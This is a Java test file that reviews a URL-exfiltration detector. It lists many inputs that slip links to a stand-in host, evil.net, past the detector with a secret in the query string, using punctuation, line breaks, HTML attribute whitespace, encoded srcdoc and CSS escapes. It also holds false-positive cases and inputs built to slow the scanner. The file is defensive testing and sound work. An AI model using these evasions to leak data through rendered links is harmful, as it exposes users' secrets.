package dev.tollgate.policy.detect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import com.fasterxml.jackson.databind.node.TextNode;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Review 12 (8eeaeca, LinkFinder): links a real reader follows to a host off the allow list that the exfiltration_urls
 * detector misses, false positives new since 0bda17c, and (disabled, no timing assertion) super-linear scans. Readers
 * (all on this machine, /tmp/rv10):
 * <ul>
 *   <li>markdown-it 14 + linkify-it 5: {@code node md12.js < in} ({@code md.js} with {@code \n} in an input line read
 *       as a line break): render with {@code {html:false, linkify:true}}, parse5 for href/src, then
 *       {@code new URL(v, "https://app.example.org/page")}; the same script reports parse5's reading of the input as
 *       HTML ("html(parse5)")</li>
 *   <li>cmark-gfm 0.9.0: {@code node gfm12.js < in} ({@code renderHtmlSync(s, {unsafe:true, extensions:{autolink:true}})},
 *       then parse5 and new URL)</li>
 *   <li>Node 20.20.2 {@code new URL}; {@code node -e} with parse5 where noted</li>
 * </ul>
 * Bypass tests expect a finding; false-positive tests expect none. All fail on 8eeaeca.
 */
class LinkFinderReviewTest {

    private static final List<String> ALLOWED = List.of("docs.example.com");

    private static List<Finding> scan(String text, List<String> allowed) {
        return DocumentScan.scan(TextNode.valueOf(text), List.of(Detectors.exfiltrationUrls(allowed)));
    }

    /**
     * HIGH. RELATIVE_PLAIN takes a plain-text {@code //host} only after whitespace or {@code (*_~}; linkify-it (markdown-it
     * {@code linkify:true}) links {@code //} after any punctuation but {@code :} and {@code /} (its schema test accepts
     * \p{P}, {@code <}, {@code >} before the link). {@code node md12.js}: each input renders
     * {@code <a href="//evil.net/x?d=SECRET">} (host evil.net). No finding for any of them.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "see \"//evil.net/x?d=SECRET\"",
            "see '//evil.net/x?d=SECRET'",
            "see ,//evil.net/x?d=SECRET",
            "see [//evil.net/x?d=SECRET]",
            "see {//evil.net/x?d=SECRET}",
            "see >//evil.net/x?d=SECRET",
            "see ;//evil.net/x?d=SECRET",
            "see -//evil.net/x?d=SECRET",
            "see !//evil.net/x?d=SECRET",
            "see @//evil.net/x?d=SECRET",
            "see 「//evil.net/x?d=SECRET」",
    })
    void aSchemeRelativeLinkAfterPunctuationIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * HIGH. LinkFinder.find skips every candidate that starts before the previous link's end ({@code start < lastEnd}),
     * and NEXT reads an allowed link on through {@code { } ( [} and punctuation outside ASCII, where linkify-it ends it
     * and starts a new link at the next scheme. {@code node md12.js}: each renders two links, href
     * {@code https://docs.example.com/} and href {@code https://evil.net/x?d=SECRET} (host evil.net). The detector reads
     * one link with host docs.example.com and never looks at the second.
     */
    @ParameterizedTest
    @ValueSource(strings = {"{", "}", "(", "[", "、", "，", "。", "｜", "“", "」", "…", "·", "—"})
    void aLinkGluedAfterAnAllowedLinkBehindPunctuationIsFound(String glue) {
        String text = "https://docs.example.com/" + glue + "https://evil.net/x?d=SECRET";
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * HIGH. ACROSS_LINES reads a link on past a line break when the next line starts with {@code . @ % : \ -} (meant
     * for an attribute value over two lines), and the link on the next line then starts before lastEnd and is skipped.
     * Markdown readers end a link at the line break: {@code node md12.js} and {@code node gfm12.js} render href
     * {@code https://docs.example.com/} and href {@code https://evil.net/x?d=SECRET} for each of the first six and for
     * the markdown destination (the destination ends at the line break, the next line is linkified); markdown-it renders
     * href {@code //evil.net/x?d=SECRET} for the last. No finding for any.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "https://docs.example.com/\n.https://evil.net/x?d=SECRET",
            "https://docs.example.com/\n@https://evil.net/x?d=SECRET",
            "https://docs.example.com/\n%https://evil.net/x?d=SECRET",
            "https://docs.example.com/\n:https://evil.net/x?d=SECRET",
            "https://docs.example.com/\n-https://evil.net/x?d=SECRET",
            "https://docs.example.com/\n\\\\https://evil.net/x?d=SECRET",
            "[a](https://docs.example.com/\n.https://evil.net/x?d=SECRET)",
            "see //docs.example.com/\n-//evil.net/x?d=SECRET",
    })
    void aLinkOnTheNextLineAfterAnAllowedLinkIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * HIGH (HTML renderers). attributeValues skips only spaces and tabs around {@code =}; HTML skips any ASCII whitespace
     * there (line feed, carriage return, form feed). parse5 (html(parse5) in md12.js, and {@code node -e} with
     * {@code parse5.parse} for the form-feed and CRLF inputs) gives each img the src {@code //evil.net/x?d=SECRET};
     * cmark-gfm with unsafe HTML passes the first three through (gfm12.js: src host evil.net). The value's own
     * {@code //} follows a quote, so no other path finds it.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "<img src=\n\"//evil.net/x?d=SECRET\">",
            "<img src\n=\"//evil.net/x?d=SECRET\">",
            "<img src\t=\n'//evil.net/x?d=SECRET'>",
            "<img src=\f\"//evil.net/x?d=SECRET\">",
            "<img src\f=\"//evil.net/x?d=SECRET\">",
            "<img src=\r\n\"//evil.net/x?d=SECRET\">",
    })
    void anAttributeWithALineBreakAroundItsEqualsSignIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * MEDIUM (HTML renderers that keep iframes). LinkRule's decoded pass drops every link whose own span holds no
     * decoded reference ({@code decodedWithin}), but here only the context was encoded: the first pass sees the unquoted
     * value {@code &quot;//evil.net/x?d=SECRET&quot;} (no scheme, no leading //), the decoded pass finds
     * {@code //evil.net/x?d=SECRET} in {@code src="..."} and throws it away as "read as written".
     * {@code node -e}: parse5 gives the iframe's srcdoc {@code <img src="//evil.net/x?d=SECRET">}, and parse5 of that
     * gives the img src {@code //evil.net/x?d=SECRET} (new URL: evil.net; a srcdoc document takes its parent's base URL).
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "<iframe srcdoc=\"<img src=&quot;//evil.net/x?d=SECRET&quot;>\"></iframe>",
            "<iframe srcdoc='<img src=&apos;//evil.net/x?d=SECRET&apos;>'></iframe>",
    })
    void aLinkWhoseContextAloneIsEncodedIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * MEDIUM (HTML renderers that keep style). Not run in a browser here; by CSS Syntax 3 (4.3.6 consume a url token,
     * 4.3.7 consume an escaped code point): {@code \2f} is {@code /}, a whitespace after the hex digits is eaten, so
     * {@code url(\2f\2f evil.net/x)} is the URL {@code //evil.net/x}. {@code image-set()} takes strings and
     * {@code @import} a string; browsers fetch both. The detector reads url()'s value raw and knows neither of the others.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "<div style=\"background:url(\\2f\\2f evil.net/x?d=SECRET)\">x</div>",
            "<div style=\"background:url('\\2f\\2f evil.net/x?d=SECRET')\">x</div>",
            "<div style=\"background-image:image-set('//evil.net/x?d=SECRET' 1x)\">x</div>",
            "<style>@import '//evil.net/x.css?d=SECRET';</style>",
    })
    void aCssLinkIsFound(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isNotEmpty();
    }

    /**
     * LOW-MEDIUM false positive (new since 0bda17c, which reports none of these). A plain-text {@code //x.y} or
     * {@code \\x.y} after whitespace is now a link: commented-out code in a fenced or indented code block, and a
     * Windows UNC path in a log. Neither md12.js (markdown-it + linkify) nor gfm12.js (cmark-gfm autolink) links
     * anything in these (code blocks are never linkified; no linkifier links a backslash path). The last two are
     * doubled-slash paths in logs: RELATIVE_PLAIN's dot rule asks for a dot anywhere in the match
     * ({@code t.substring(start, end).indexOf('.')}), so a dot in the path ({@code users.json}) makes "api" and
     * "static" hosts; linkify-it needs the dot in the host and links neither.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "```js\n//console.log(user.name)\n```",
            "    //TODO.fix later",
            "copied to \\\\fileserver.corp.local\\share\\build.log",
            "2024-01-01T00:00:00Z GET //api/v1/users.json 200",
            "fetched //static/app.min.js from cache",
    })
    void codeCommentsAndUncPathsAreNoFinding(String text) {
        assertThat(scan(text, ALLOWED)).as(text).isEmpty();
    }

    /**
     * HIGH (DoS). Work in LinkFinder.candidates / readOnTo / attributeValues that is not charged to the budget and is
     * linear per candidate, so quadratic per text. Measured on this machine, one scan each (0bda17c in brackets):
     * <ul>
     *   <li>{@code "]://x ".repeat(150_000)} (900k chars): 39-122 s [165 ms]; 225k chars 2.5 s, 450k 25 s.
     *       markdownTakesUrlBefore runs {@code t.lastIndexOf('[')} and {@code lastIndexOf('\n')} back to the text's
     *       start for every {@code //} after {@code ]:}.</li>
     *   <li>{@code "\\\\ ".repeat(300_000)}: 12.8 s [5 ms]. nextSlashPair runs {@code s.indexOf("//", from)} to the end
     *       for every backslash pair when the text has no {@code //}.</li>
     *   <li>{@code "](<https://docs.example.com ".repeat(30_000)}: 8.0 s [354 ms]. readOnTo's pointy loop reads to the
     *       line's end for every pointy destination with no {@code >}, and returns {@code end}: nothing is charged.</li>
     *   <li>{@code "// ".repeat(300_000)}: 2.9 s [12 ms]. nextSlashPair runs {@code s.indexOf('\\', from)} to the end
     *       for every {@code //} when the text has no backslash.</li>
     *   <li>{@code "srcset=a ".repeat(100_000)}: 1.2 s [62 ms]. The srcset loop's {@code t.indexOf(',', candidate)}
     *       is not bounded by the value's end.</li>
     * </ul>
     * Disabled: no timing assertion; remove @Disabled after the fix. The scan must end (finish, or fail closed).
     */
    @ParameterizedTest
    @ValueSource(strings = {"]://x ", "\\\\ ", "](<https://docs.example.com ", "// ", "srcset=a "})
    void aTextOfManyUnchargedCandidatesEnds(String unit) {
        String text = unit.repeat(900_000 / unit.length());
        assertThatCode(() -> {
            try {
                scan(text, ALLOWED);
            } catch (ScanBudget.Exceeded ignored) {
                // failing closed is an acceptable end
            }
        }).doesNotThrowAnyException();
    }
}
